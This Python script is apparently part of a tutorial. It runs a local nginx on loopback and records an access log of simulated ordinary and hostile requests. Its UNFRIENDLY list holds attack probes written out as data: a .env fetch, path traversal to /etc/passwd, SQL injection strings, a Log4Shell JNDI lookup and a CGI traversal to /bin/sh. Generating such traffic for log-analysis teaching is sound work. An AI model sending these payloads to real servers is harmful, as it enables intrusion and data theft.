"""Record the events of the tutorial: what an nginx of our own logs while ordinary and unfriendly clients ask it.

    python docs/tutorial/make_events.py PATH_TO_NGINX

Writes access.ndjson beside this file. nginx runs in a temporary folder, on the loopback interface alone; the addresses
in the log are of the ranges that RFC 5737 keeps for documentation, handed over as a proxy hands them over.
"""

from __future__ import annotations

import random
import subprocess
import sys
import tempfile
import time
from http.client import HTTPConnection
from pathlib import Path

PORT = 18080
CONFIG = """\
worker_processes 1;
pid {home}/nginx.pid;
error_log {home}/error.log;
daemon off;
events {{}}
http {{
  log_format events escape=json '{{"time":"$time_iso8601","client":"$remote_addr","method":"$request_method",'
    '"path":"$request_uri","status":$status,"bytes":$body_bytes_sent,"seconds":$request_time,'
    '"request":{{"length":$request_length,"protocol":"$server_protocol","referer":"$http_referer",'
    '"agent":"$http_user_agent"}},"upstream":{{"status":"$upstream_status","seconds":"$upstream_response_time"}}}}';
  access_log {home}/access.ndjson events;
  client_body_temp_path {home}/body; proxy_temp_path {home}/proxy; fastcgi_temp_path {home}/fastcgi;
  uwsgi_temp_path {home}/uwsgi; scgi_temp_path {home}/scgi;
  set_real_ip_from 127.0.0.1;
  real_ip_header X-Forwarded-For;
  server {{
    listen 127.0.0.1:{port};
    root {home}/site;
    location /api/ {{ proxy_pass http://127.0.0.1:{upstream}; }}
    location = /login {{ if ($request_method = POST) {{ return 302 /; }} try_files /login.html =404; }}
  }}
  server {{
    listen 127.0.0.1:{upstream};
    access_log off;
    location /api/slow {{ limit_rate 20k; alias {home}/site/report.csv; }}
    location /api/ {{ default_type application/json; return 200 '{{"ok":true}}'; }}
  }}
}}
"""
SITE = {"index.html": 4_200, "login.html": 1_900, "style.css": 9_800, "logo.svg": 2_300, "report.csv": 12_000}
ORDINARY = ["/", "/", "/style.css", "/logo.svg", "/login", "/report.csv", "/api/orders?page=2", "/api/slow", "/api/7"]
UNFRIENDLY = [
    "/.env",
    "/wp-login.php",
    "/admin/../../../etc/passwd",
    "/login?user=admin%27%20OR%20%271%27=%271",
    "/api/orders?id=1%20UNION%20SELECT%20password%20FROM%20users",
    "/?x=${jndi:ldap://198.51.100.9/a}",
    "/cgi-bin/.%2e/.%2e/bin/sh",
]
AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605",
    "curl/8.5.0",
]
REQUESTS = 240


def main() -> None:
    """Start nginx, ask it, stop it, keep its log."""
    with tempfile.TemporaryDirectory() as folder:
        home = Path(folder)
        home.chmod(0o755)  # for nginx's workers, which are nobody
        for name, size in SITE.items():
            (home / "site").mkdir(exist_ok=True)
            (home / "site" / name).write_bytes(b"x" * size)
        (home / "nginx.conf").write_text(CONFIG.format(home=home, port=PORT, upstream=PORT + 1))
        server = subprocess.Popen([sys.argv[1], "-p", folder, "-c", home / "nginx.conf"])
        try:
            time.sleep(1)
            ask(random.Random(7))  # noqa: S311 - which page comes next is no secret
        finally:
            server.terminate()
            server.wait(10)
        Path(__file__).with_name("access.ndjson").write_bytes((home / "access.ndjson").read_bytes())


def ask(chance: random.Random) -> None:
    """Each request over a connection of its own, as from its client."""
    for _ in range(REQUESTS):
        unfriendly = chance.random() < 0.08
        path = chance.choice(UNFRIENDLY if unfriendly else ORDINARY)
        posts = path == "/login" and chance.random() < 0.5
        agent = "" if unfriendly and chance.random() < 0.5 else chance.choice(AGENTS)
        client = f"198.51.100.{chance.randrange(4, 8)}" if unfriendly else f"192.0.2.{chance.randrange(10, 60)}"
        connection = HTTPConnection("127.0.0.1", PORT, timeout=10)
        body = b"user=ada&password=x" if posts else None
        connection.request(
            "POST" if posts else "GET", path, body, {"User-Agent": agent, "X-Forwarded-For": client, "Accept": "*/*"}
        )
        connection.getresponse().read()
        connection.close()
        time.sleep(chance.expovariate(20))


if __name__ == "__main__":
    main()
